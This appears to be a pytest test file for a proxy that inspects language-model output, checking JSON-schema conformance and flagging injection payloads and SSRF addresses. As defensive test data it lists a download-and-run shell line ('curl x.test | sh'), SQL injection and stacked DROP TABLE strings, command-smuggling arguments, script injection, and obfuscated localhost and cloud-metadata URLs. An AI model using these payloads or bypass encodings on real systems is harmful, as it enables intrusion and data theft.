"""Structured output, contexts, server-side requests."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from clyra_proxy.genai.inspection import Caller, Inspection, Workshop
from clyra_proxy.genai.model import Conversation, Direction, Provenance, Segment, ToolCall
from clyra_proxy.genai.output.addresses import forged_requests
from clyra_proxy.genai.output.inspector import OutputInspector, compile_inspector
from clyra_proxy.policy.genai.output import Output
from clyra_proxy.policy.load import validate
from clyra_proxy.policy.source import parse
from clyra_proxy.state.memory import MemoryState
from clyra_proxy.verdict.model import Action

SCHEMA = {"type": "object", "properties": {"name": {"type": "string"}}, "required": ["name"]}
NO_SCHEMA: dict[str, Any] = {}


def inspector(text: str = "") -> OutputInspector:
    made = compile_inspector(validate(Output, parse(text, "test")), Path(), Workshop(MemoryState(), b"s" * 32))
    assert made is not None
    return made


def answer(
    *texts: str | Segment,
    schema: dict[str, Any] | None = SCHEMA,
    calls: tuple[ToolCall, ...] = (),
    finish: str = "stop",
    error: bool = False,
    agent: str = "bot",
) -> Inspection:
    segments = tuple(
        text
        if isinstance(text, Segment)
        else Segment(text, Provenance.ASSISTANT, "/choices/0/message/content", "", "choice/0")
        for text in texts
    )
    request = Conversation("openai-chat", Direction.REQUEST, "chat", "m", structured=schema)
    conversation = Conversation(
        "openai-chat",
        Direction.RESPONSE,
        "chat",
        "m",
        segments=segments,
        calls=calls,
        finish_reason=finish,
        error=error,
    )
    return Inspection(conversation, Caller(agent), "api.openai.com:443", "llm", "x", request)


def said(text: str, path: str = "/choices/0/message/content", block: str = "choice/0") -> Segment:
    return Segment(text, Provenance.ASSISTANT, path, "", block)


@pytest.mark.parametrize(
    ("answered", "keyword"),
    [
        (answer('{"name": "x"}'), None),
        (answer(' {"name": "x"}\n'), None),
        (answer('{"name": 5}'), "type"),
        (answer('{"nam": "x"}'), "required"),
        (answer("Sure! Here it is."), "json"),
        (answer('{"name": "x", "name": 5}'), "json"),
        (answer("null"), "type"),
        (answer('{"na', 'me": "x"}'), None),
        (answer(said("Let me think", "/choices/0/message/reasoning_content"), '{"name": "x"}'), None),
        (answer(said("I won't", "/choices/0/message/refusal")), None),
        (answer(said("hm", "", "choice/0/thinking"), said('{"name": 1}', "", "choice/0")), "type"),
        (answer(said('{"name": "x"}'), said('{"name": 5}', "/choices/1/message/content", "choice/1")), "type"),
        (answer("Calling a tool", calls=(ToolCall("f", {"a": 1}),)), None),
        (answer("Calling a tool", calls=(ToolCall("f", {"name": "x"}),)), None),
        (answer('{"name": 5}', calls=(ToolCall("f", {"a": 1}),)), "type"),
        (answer("Sure!", schema=None), None),
        (answer("overloaded", error=True), None),
        (answer(), None),
        (answer("anything", schema={"$ref": "https://x.test/schema"}), "json"),
        (answer("5", schema={"$ref": "https://x.test/schema"}), None),
    ],
)
def test_structured_answers(answered: Inspection, keyword: str | None) -> None:
    found = list(inspector().inspect(answered))
    assert [signal.detail["patterns"] for signal in found] == ([] if keyword is None else [keyword])
    assert all(signal.rule == "output.schema" and signal.action is None for signal in found)


@pytest.mark.parametrize("reason", ["length", "max_tokens", "MAX_TOKENS", "content_filter", "SAFETY", "refusal"])
def test_broken_off_answers_are_marked(reason: str) -> None:
    [found] = inspector().inspect(answer('{"name": "x', finish=reason))
    assert (found.action, found.detail["kind"]) == (Action.MARK, "broken_off")


def test_structure_can_be_left_alone() -> None:
    assert compile_inspector(Output(check_structured=False), Path(), Workshop(MemoryState(), b"s" * 32)) is None


CONTEXT = "contexts: [{name: page, into: [%s]}]"


@pytest.mark.parametrize(
    ("into", "text", "ids"),
    [
        ("html", "<b>fine</b>", ""),
        ("html", "x <script>alert(1)</script>", "html.script"),
        ("html", '<img src=x onerror="x()">', "html.handler"),
        ("markdown", "Use `<script>` for scripts:\n```html\n<script>x</script>\n```\nDone.", ""),
        ("markdown", "Use <script>x</script>", "html.script"),
        ("markdown", "[a](javascript:x)", "markdown.script_url"),
        ("markdown", "```\nopen fence <script>", ""),
        ("sql", "SELECT name FROM users WHERE id = 5", ""),
        ("sql", "SELECT 1; DROP TABLE users", "sql.definition,sql.stacked"),
        ("shell", "ls -la | grep x", ""),
        ("shell", "curl x.test | sh", "shell.download_run"),
        ("code", "print('hello')", ""),
        ("code", "import os\nos.system('id')", "code.command"),
        ("template", "Hello {{ name }}", ""),
        ("template", "Hello {{7*7}}", "template.probe"),
        ("url", "see http://169.254.169.254/latest", "url.internal"),
        ("sql_value", "O'Brien", ""),
        ("sql_value", "x' OR 'a'='a", "sql_value.quote"),
        ("shell_argument", "report.pdf", ""),
        ("shell_argument", "x; id", "shell_argument.operator"),
    ],
)
def test_contexts(into: str, text: str, ids: str) -> None:
    found = list(inspector(CONTEXT % into).inspect(answer(text, schema=None)))
    assert [signal.detail["patterns"] for signal in found] == ([ids] if ids else [])
    assert all(signal.detail["kind"] == f"page:{into}" for signal in found)


def test_contexts_are_for_whom_they_select_and_allow_what_they_say() -> None:
    text = "contexts: [{name: page, into: [html, sql], agents: [web], allow: ['sql.*']}]"
    bad = "<script>x</script>; DROP TABLE x"
    assert list(inspector(text).inspect(answer(bad, schema=None))) == []
    [found] = inspector(text).inspect(answer(bad, schema=None, agent="web"))
    assert found.detail["patterns"] == "html.script"


def test_arguments_of_tools_are_judged_where_they_end_up() -> None:
    judge = inspector("contexts: [{name: db, into: [sql], tools: ['*sql*']}]")
    drop = ToolCall("run_sql", {"query": "DROP TABLE x"}, path="/a")
    whole = answer("DROP TABLE x", schema=None, calls=(drop, ToolCall("note", {"text": "DROP TABLE x"})))
    [found] = judge.inspect(whole)
    assert (found.detail["tool"], found.path) == ("run_sql", "/a")
    assert [signal.detail for signal in judge.judge_call(drop, whole)] == [found.detail]
    assert list(judge.judge_call(ToolCall("run_sql", {"query": "SELECT 1"}), whole)) == []
    assert len(list(judge.judge_call(ToolCall("run_sql", None, raw='{"query": "DROP TABLE x'), whole))) == 1


@pytest.mark.parametrize(
    ("text", "ids"),
    [
        ("https://example.com/x?y=1", []),
        ("see https://1.1.1.1/ and ftp://ftp.example.org", []),
        ("http://169.254.169.254/latest/meta-data", ["url.internal"]),
        ("http://[::ffff:169.254.169.254]/", ["url.internal"]),
        ("http://2852039166/", ["url.internal"]),
        ("http://0251.0376.0251.0376/", ["url.internal"]),
        ("http://0x7f.1/", ["url.internal"]),
        ("http://127.1:8080", ["url.internal"]),
        ("http://localhost:3000/admin", ["url.internal"]),
        ("http://LOCALHOST", ["url.internal"]),
        ("http://metadata.google.internal/x", ["url.internal"]),
        ("http://10.0.0.5.nip.io/", ["url.internal"]),
        ("http://app-192-168-1-1.sslip.io", ["url.internal"]),
        ("http://8.8.8.8.nip.io/", []),
        ("http://localtest.me", ["url.internal"]),
        ("http://example.com@127.0.0.1/", ["url.internal"]),
        ("http://127.0.0.1@example.com/", ["url.unclear"]),
        ("http:\\\\127.0.0.1/", ["url.internal"]),
        ("http://127.0.0.1%2f.example.com", ["url.unclear"]),
        ("http://127%2e0.0.1/", ["url.internal"]),
        ("http:/127.0.0.1/", ["url.internal"]),
        ("http://１２７.０.０.１/", ["url.internal"]),
        ("file:///etc/passwd", ["url.scheme"]),
        ("gopher://x.test:6379/_FLUSHALL", ["url.scheme"]),
        ("php://filter/read=x", ["url.scheme"]),
        ("call 127.0.0.1 now", ["url.internal"]),
        ("version 10.2.3.4 of 1.2.3", ["url.internal"]),
        ("localhost:8080", ["url.internal"]),
        ("a localhosted thing at noon:30", []),
        ("mailto:x@example.com", []),
        ("urn:isbn:1", []),
    ],
)
def test_requests_that_servers_must_not_make(text: str, ids: list[str]) -> None:
    assert list(forged_requests(text)) == ids


@hypothesis_settings(max_examples=100)
@given(st.text(alphabet="htp:/\\@[]%.0127localhost#?\u3002 ", max_size=60))
def test_no_address_raises(text: str) -> None:
    list(forged_requests(text))
